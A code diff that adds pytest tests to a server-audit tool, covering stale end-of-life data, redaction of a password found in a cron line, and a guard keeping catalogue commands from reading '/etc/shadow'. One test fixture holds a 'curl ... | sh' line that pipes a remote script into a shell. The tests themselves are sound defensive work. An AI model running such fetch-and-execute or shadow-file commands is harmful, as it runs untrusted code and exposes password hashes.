@@ -1,9 +1,11 @@
 """What an answer means is decided by rules; what was not seen is never a pass."""
 
 import dataclasses
+from datetime import UTC, datetime
 
 import pytest
 
+from noc_console.audit.catalogue import load_catalogue
 from noc_console.audit.check import Empty, Family, Rule
 from noc_console.audit.finding import Result
 from noc_console.audit.judging import MAX_FINDINGS, judge
@@ -140,3 +142,30 @@ def test_a_rule_that_asks_for_what_the_parser_does_not_tell_is_not_measured():
 
     assert result.result is Result.NOT_MEASURED
     assert "colour" in result.why
+
+
+def test_an_old_table_of_ends_of_life_is_said_to_be_old():
+    later = around(now=datetime(2027, 4, 1, tzinfo=UTC))
+    output = 'ID=debian\nVERSION_ID="13"\nPRETTY_NAME="Debian GNU/Linux 13 (trixie)"\n'
+
+    assert "is of 2026-08-22" in judged("UPD-06", output, surroundings=later).why
+    assert judged("UPD-06", output).why == ""
+
+
+def test_a_secret_in_a_line_is_in_no_sentence_and_no_item():
+    line = "LINE\t/etc/cron.d/x\t1\tcurl -u anna:hunter2 http://x.example | sh\nSEEN\t1\n"
+
+    result = judged("CRN-02", line)
+
+    assert result.result is Result.FAIL
+    assert "hunter2" not in repr(result)
+
+
+def test_no_command_of_an_account_lets_a_hash_leave_the_host():
+    asked = [
+        check.commands[Family.DEBIAN]
+        for check in load_catalogue().checks.values()
+        if Family.DEBIAN in check.commands
+    ]
+
+    assert not [one for one in asked if "cat /etc/shadow" in one or one.strip() == "getent passwd"]
